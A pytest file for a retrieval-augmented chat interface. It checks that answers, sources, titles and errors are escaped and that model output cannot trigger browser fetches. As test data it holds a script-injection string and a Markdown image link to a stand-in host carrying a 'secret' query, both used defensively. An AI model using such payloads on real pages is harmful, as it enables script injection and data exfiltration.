"""Rendering answers and sources for the chat (pure functions, no model): links, highlights, escaping."""
import html
import re

import pytest
from hypothesis import given, strategies as st

from rag.web import presentation as view
from rag.web import tabs
from rag.index import DocInfo
from rag.pipeline import Answer, Citation, Timings
from rag.retrieval import Passage

SCRIPT = "<script>alert('x')</script>"
TITLE = "Altman <b>on</b> China"


def passage(n: int, text: str = "Passage text.", similarity=0.5, title: str = TITLE, start: int = 0) -> Passage:
    return Passage(f"doc:h:{n:05d}", "doc", title, "altman.md", text, start, start + len(text), 0.1, similarity)


def citation(n: int, text: str, highlights=(), supported: bool = True, title: str = TITLE) -> Citation:
    return Citation(n, "doc", title, "altman.md", f"doc:h:{n:05d}", text, 100, 100 + len(text), supported,
                    list(highlights))


def answer(text: str = "OpenAI released it to compete [1].", citations=None, refused: bool = False,
           passages=None, question: str = "Why?", standalone: str = "") -> Answer:
    cites = [citation(1, "OpenAI released open weights to compete.", [(0, 20)])] if citations is None else citations
    timings = Timings(retrieve_ms=35, ttft_ms=4200, total_ms=6200, prompt_tokens=500, completion_tokens=21)
    return Answer(question, text, refused, cites, passages or [passage(1)], [], timings, "model.gguf", standalone)


def strip_tags(rendered: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", rendered))


def link_targets(markdown: str) -> list[str]:
    return re.findall(r'href="#([^"]+)"', markdown)


def test_escape_makes_markup_and_templates_inert():
    assert view.escape(SCRIPT + "${x} {{y}}") == (
        "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;&#36;&#123;x&#125; &#123;&#123;y&#125;&#125;")


@pytest.mark.parametrize("text, unsupported, expected", [
    ("Yes [1].", (), 'Yes <a href="#src-2-1" class="cite" title="Show source 1">[1]</a>.'),
    ("A [1][3]", (), 'A <a href="#src-2-1" class="cite" title="Show source 1">[1]</a>'
                     '<a href="#src-2-3" class="cite" title="Show source 3">[3]</a>'),
    ("No markers.", (), "No markers."),
    ("Weak [2].", (2,), 'Weak <a href="#src-2-2" class="cite unsupported" '
                        'title="Source 2 does not clearly support this sentence">[2]</a><sup>?</sup>.'),
])
def test_link_citations(text, unsupported, expected):
    assert view.link_citations(text, 2, unsupported) == expected


def test_answer_markdown_links_each_citation_to_a_source_card_that_exists():
    reply = answer("First [1]. Second [2].", [citation(1, "First."), citation(2, "Second.", supported=False)])
    markdown, sources = view.answer_markdown(reply, 3), view.sources_html(reply, 3)
    targets = link_targets(markdown)
    assert targets == ["src-3-1", "src-3-2"]
    assert all(f'id="{target}"' in sources for target in targets)
    assert 'class="cite unsupported"' in markdown and "Not supported" in sources


def test_answer_markdown_escapes_the_model_text_and_shows_timings():
    markdown = view.answer_markdown(answer(f"Look {SCRIPT} [1]."), 1)
    assert "<script>" not in markdown and "&lt;script&gt;" in markdown
    assert "retrieval 35 ms · first token 4.2 s · 10.0 tokens/s" in markdown


HOSTILE = ("See ![x](http://elsewhere.example/?q=secret) and [here](https://elsewhere.example) or "
           "<http://elsewhere.example> or www.elsewhere.example [1].")


@pytest.mark.parametrize("render", [
    lambda: view.answer_markdown(answer(HOSTILE), 1),
    lambda: view.answer_markdown(answer(question="and he?", standalone=HOSTILE), 1),  # the rewrite shown on demand
    lambda: view.streaming_markdown(HOSTILE),
])
def test_model_output_cannot_make_the_browser_fetch_anything(render):
    from markdown_it import MarkdownIt

    markdown = render()
    for opener in ("](", "][", "http:", "https:", "www.", "<http"):
        assert opener not in markdown  # neither Markdown nor a linkifier can start an image or a link (text.inert)
    rendered = MarkdownIt("commonmark").render(markdown)
    assert "<img" not in rendered and 'href="http' not in rendered and "elsewhere.example" in rendered


@pytest.mark.parametrize("reason, words", [("numbers", "year or number"), ("confidence", "withheld"), ("", "")])
def test_a_refusal_says_why(reason, words):
    refused = answer("The articles do not answer this question.", [], refused=True)
    refused.refused_by = reason
    markdown = view.answer_markdown(refused, 1)
    assert view.REFUSED_NOTE in markdown and words in markdown and "  " not in markdown.split("\n")[0]


def test_rewritten_question_is_shown_on_demand_only_when_it_differs():
    same = view.answer_markdown(answer(question="Why?", standalone="Why?"), 1)
    rewritten = view.answer_markdown(answer(question="and he?", standalone="What does <Altman> think?"), 1)
    assert "<details" not in same
    assert '<details class="searched">' in rewritten and "What does &lt;Altman&gt; think?" in rewritten


def test_refused_answer_says_so_and_shows_the_closest_passages():
    found = [passage(n, f"Nearby text {n} {SCRIPT}", similarity=0.3 - n / 100) for n in range(1, 6)]
    reply = answer("The articles do not answer this question.", [], refused=True, passages=found)
    markdown, sources = view.answer_markdown(reply, 1), view.sources_html(reply, 1)
    assert view.REFUSED_NOTE in markdown and "href" not in markdown
    assert view.REFUSED_NOTE in sources and "closest passages" in sources
    assert sources.count('class="source-card"') == view.CLOSEST_SHOWN
    assert "similarity 0.29" in sources and "<script>" not in sources


def test_answer_without_citations_lists_the_passages_it_read():
    sources = view.sources_html(answer("Something.", [], passages=[passage(1), passage(2)]), 1)
    assert "cites no source" in sources and sources.count('class="source-card"') == 2


def test_source_card_shows_title_origin_and_highlighted_passage_escaped():
    text = f"Intro {SCRIPT}. OpenAI released open weights. Outro."
    start = text.index("OpenAI")
    sources = view.sources_html(answer(citations=[citation(1, text, [(start, start + 28)])]), 1)
    assert "Altman &lt;b&gt;on&lt;/b&gt; China" in sources and "altman.md" in sources
    assert "<mark>OpenAI released open weights</mark>" in sources
    assert "<script>" not in sources and "&lt;script&gt;" in sources
    assert "… " in sources  # the passage starts inside the document


def test_a_link_cut_by_a_highlight_is_still_broken():
    assert view.highlight("See ![x](http://e.com) now", [(4, 8)]) == "See <mark>![x]</mark> (http(:)//e.com) now"


# text.inert adds characters after "@", ":", "(", "[" and "." (tested in test_text.py): left out here, where
# positions are counted
@given(st.text(alphabet=st.characters(blacklist_characters="@:([."), max_size=80),
       st.lists(st.tuples(st.integers(-5, 90), st.integers(-5, 90)), max_size=6))
def test_highlight_keeps_the_text_and_marks_exactly_the_spans(text, spans):
    rendered = view.highlight(text, spans)
    assert strip_tags(rendered) == text  # invariant: nothing lost, nothing added
    marked = set()
    for start, end in spans:
        marked |= set(range(max(0, start), min(len(text), end)))
    inside, position = set(), 0
    for piece in re.split(r"(<mark>.*?</mark>)", rendered, flags=re.S):
        plain = strip_tags(piece)
        if piece.startswith("<mark>"):
            inside |= set(range(position, position + len(plain)))
        position += len(plain)
    assert inside == marked  # invariant: exactly the spans are marked
    assert "<mark></mark>" not in rendered and "</mark><mark>" not in rendered


def test_sources_panel_puts_the_newest_turn_first_and_open():
    turns = [{"question": "first <q>", "sources": "<p>one</p>"}, {"question": "error", "sources": ""},
             {"question": "second", "sources": "<p>two</p>"}]
    panel = view.sources_panel(turns)
    assert panel.index("two") < panel.index("one")
    assert panel.count("<details") == 2 and panel.count(" open>") == 1
    assert "first &lt;q&gt;" in panel
    assert view.sources_panel([]) == view.EMPTY_PANEL


def test_chat_messages_alternate_user_and_assistant():
    turns = [{"question": SCRIPT, "markdown": "A"}, {"question": "", "markdown": "⚠️ Please type a question."}]
    messages = view.chat_messages(turns)
    assert [m["role"] for m in messages] == ["user", "assistant", "user", "assistant"]
    assert "<script>" not in messages[0]["content"] and messages[2]["content"] == "*(empty question)*"


def test_streaming_and_errors_are_escaped():
    assert view.streaming_markdown("Open <b>") == "Open &lt;b&gt; ▍"
    assert view.error_markdown(f"Bad {SCRIPT}") == "⚠️ Bad &lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;"
    assert view.progress_markdown(f"Question 1/2: {SCRIPT}") == (
        "⏳ Question 1/2: &lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;")


def test_mark_stopped_keeps_the_partial_answer_and_drops_the_cursor():
    turns = [{"status": "answer", "markdown": "Done."}, {"status": "streaming", "markdown": "Open ▍"}]
    assert view.mark_stopped(turns) == [{"status": "answer", "markdown": "Done."},
                                        {"status": "stopped", "markdown": "Open\n\n*(stopped)*"}]


def test_timings_of_a_refusal_without_model_call():
    assert view.timings_text(Timings(retrieve_ms=12, total_ms=15)) == "retrieval 12 ms · total 0.0 s, no model call"


def test_model_line_and_header_are_escaped():
    info = {"name": "Qwen <2.5>", "quantization": "Q4_K_M", "n_ctx": 4096, "threads": 2}
    assert view.model_line(info) == "Qwen &lt;2.5&gt; · Q4_K_M · 4,096-token context · 2 threads"
    assert "Qwen &lt;2.5&gt;" in view.header_html(info)


def test_documents_table_escapes_titles_and_formats_times():
    docs = [DocInfo("id1", SCRIPT, "a<b>.md", 3, "2025-01-02T03:04:05+00:00", True),
            DocInfo("id2", "Half", "b.md", 1, "", False)]
    table = tabs.documents_html(docs)
    assert "<script>" not in table and "a&lt;b&gt;.md" in table
    assert "2025-01-02 03:04 UTC" in table and "incomplete" in table
    assert "No documents" in tabs.documents_html([])
    assert tabs.document_choices(docs)[1] == ("Half — b.md", "id2")


@pytest.mark.parametrize("stamp, shown", [("2025-01-02T03:04:05+00:00", "2025-01-02 03:04 UTC"),
                                          ("2025-01-02T03:04Z", "2025-01-02 03:04 UTC"), ("yesterday", "yesterday"),
                                          ("", "")])
def test_when(stamp, shown):
    assert tabs.when(stamp) == shown


def test_upload_message_lists_added_and_refused_files():
    message = tabs.upload_message(["new.md"], [("x.txt", "x.txt: looks like a binary file, not text.")], "1 added")
    assert "Added **new.md**" in message and "Not added: x.txt: looks like a binary" in message
    assert tabs.upload_message([], []) == "No file was uploaded."


def test_evaluation_report_drops_the_chart_link_and_keeps_html_inert():
    report = f"# Evaluation: t.jsonl\n\n| q | a |\n|---|---|\n| {SCRIPT} | x |\n\n![scores](chart.png)\n\n## Per question\n"
    shown = tabs.evaluation_markdown(report, "eval/<1>")
    assert "<script>" not in shown and "&lt;script>" in shown
    assert "chart.png" not in shown and "\n\n\n" not in shown
    assert shown.startswith("# Evaluation: t.jsonl\n\n| q | a |") and "## Per question" in shown
    assert shown.endswith("<small>Report files: <code>eval/&lt;1&gt;</code> in the data folder</small>")
    uploaded = tabs.evaluation_markdown("from `/tmp/gradio/4f2a/news.jsonl`, answered", "/srv/rag/.rag/eval/1")
    assert "/tmp/gradio" not in uploaded and "/srv/rag" not in uploaded and "`…/news.jsonl`" in uploaded
    assert tabs.evaluation_markdown("# E\n") == "# E"


@pytest.mark.parametrize("message, shown", [
    ("The index at /srv/rag/.rag/index cannot be opened.", "The index at …/index cannot be opened."),
    ("Not found: /home/ana/notes/a.md, /tmp/x.", "Not found: …/a.md, …/x."),
    ("http://127.0.0.1:8000/a/b/c: the site answered 404 Not Found.", "http(:)//127.0.0.1:8000/a/b/c: the site answered 404 Not Found."),
    ("Prices rose 3/4 and/or fell (see /etc/hosts).", "Prices rose 3/4 and/or fell (see …/hosts)."),
])
def test_pages_name_no_folder_of_the_server(message, shown):
    assert view.error_markdown(message) == "⚠️ " + shown
